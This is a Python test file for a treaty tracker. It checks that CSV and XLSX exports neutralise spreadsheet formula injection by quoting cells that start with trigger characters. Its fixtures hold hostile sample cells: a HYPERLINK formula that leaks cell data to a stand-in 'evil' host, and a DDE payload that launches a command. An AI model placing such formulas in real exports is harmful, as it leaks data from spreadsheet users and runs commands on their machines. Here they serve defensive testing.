"""Every CSV and XLSX the tracker writes neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from tracker.changes import changes
from tracker.changes import to_csv as changes_csv
from tracker.edits import apply_edit
from tracker.exports.cells import TRIGGERS, safe_cell, safe_frame, unquote_cell
from tracker.exports.publish import publish
from tracker.exports.report import snapshot
from tracker.exports.rows import to_csv as export_csv
from tracker.exports.xlsx import to_xlsx
from tracker.targets import DEFAULT_WEIGHTS, rank_targets
from tracker.targets import to_csv as targets_csv

EVIL = '=HYPERLINK("http://evil/?x="&A1,"x")'
URL = "https://treaties.un.org/doc/Publication/MTDSG/Volume%20I/Chapter%20IV/iv-13.en.xml"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_safe(values) -> None:
    texts = [v for v in values if isinstance(v, str)]
    assert texts, "nothing was written"
    dangerous = [v for v in texts if v.startswith(TRIGGERS)]
    assert dangerous == []


@pytest.fixture
def hostile(db):
    """Seeded database where a state name, an actor, a reason and a note carry a formula."""
    db.execute("update countries set display_name = ? where iso3 = 'KHM'", [EVIL])
    apply_edit(
        db,
        actor=EVIL,
        iso3="KHM",
        instrument="ICRMW",
        changes={"note": "@SUM(1+1)*cmd|' /C calc'!A0"},
        reason="+" + EVIL,
        source_url=URL,
    )
    return db


@pytest.mark.parametrize("value", [EVIL, "+1", "-2+3", "@x", "\tx", "\rx", "=1"])
def test_text_starting_with_a_trigger_gets_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["2024-01-10", "https://x.org/-a", "Cambodia", "", None, -1.5, 3])
def test_data_passes_unchanged(value):
    assert safe_cell(value) == value


def test_safe_frame_keeps_numbers_numeric_and_quotes_text():
    frame = pd.DataFrame({"score": [-0.25, 1.0], "why": ["-fewer", "ok"], "=col": ["a", "b"]})
    out = safe_frame(frame)
    assert out["score"].tolist() == [-0.25, 1.0]
    assert out["why"].tolist() == ["'-fewer", "ok"]
    assert list(out.columns) == ["score", "why", "'=col"]
    assert frame["why"].tolist() == ["-fewer", "ok"]  # the input is not modified


def test_whats_new_csv_quotes_actor_and_reason(hostile):
    text = changes_csv(changes(hostile, since=dt.date.today(), until=dt.date.today()))
    cells = _cells(text)
    assert "'" + EVIL in cells and "'+" + EVIL in cells
    _assert_safe(cells)


def test_export_and_matrix_download_csv_quote_the_state_name(hostile):
    snap = snapshot(hostile, instruments="core")
    cells = _cells(export_csv(snap.cells, as_of=snap.as_of))
    assert "'" + EVIL in cells
    _assert_safe(cells)
    assert any(c[:4].isdigit() and c[4] == "-" for c in cells)  # ISO dates stay unquoted


def test_targets_csv_quotes_text_and_scores_stay_numbers(hostile):
    df = rank_targets(hostile, instrument_code="ICRMW")
    text = targets_csv(df, as_of=dt.date.today(), weights=DEFAULT_WEIGHTS)
    rows = list(csv.DictReader(io.StringIO("\n".join(text.splitlines()[2:]))))
    assert any(r["state"] == "'" + EVIL for r in rows)
    _assert_safe([v for r in rows for v in r.values()])
    assert all(float(r["score"]) >= 0 for r in rows)  # numbers still parse as numbers


def _xlsx_values(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    return [c.value for c in cells]


def test_xlsx_workbook_has_no_formula_cells(hostile):
    values = _xlsx_values(to_xlsx(hostile, snapshot(hostile, instruments="core")))
    assert "'" + EVIL in values
    _assert_safe(values)


def test_published_data_csv_and_xlsx_are_neutralised(hostile, tmp_path):
    out = tmp_path / "site"
    publish(hostile, out)
    cells = _cells((out / "data.csv").read_text(encoding="utf-8"))
    assert "'" + EVIL in cells
    _assert_safe(cells)
    _assert_safe(_xlsx_values((out / "data.xlsx").read_bytes()))


@pytest.mark.parametrize("value", [EVIL, "-5 days", "plain", "'quoted already", "", "@x"])
def test_unquote_reverses_safe_cell_for_text_read_back(value):
    assert unquote_cell(safe_cell(value)) == value
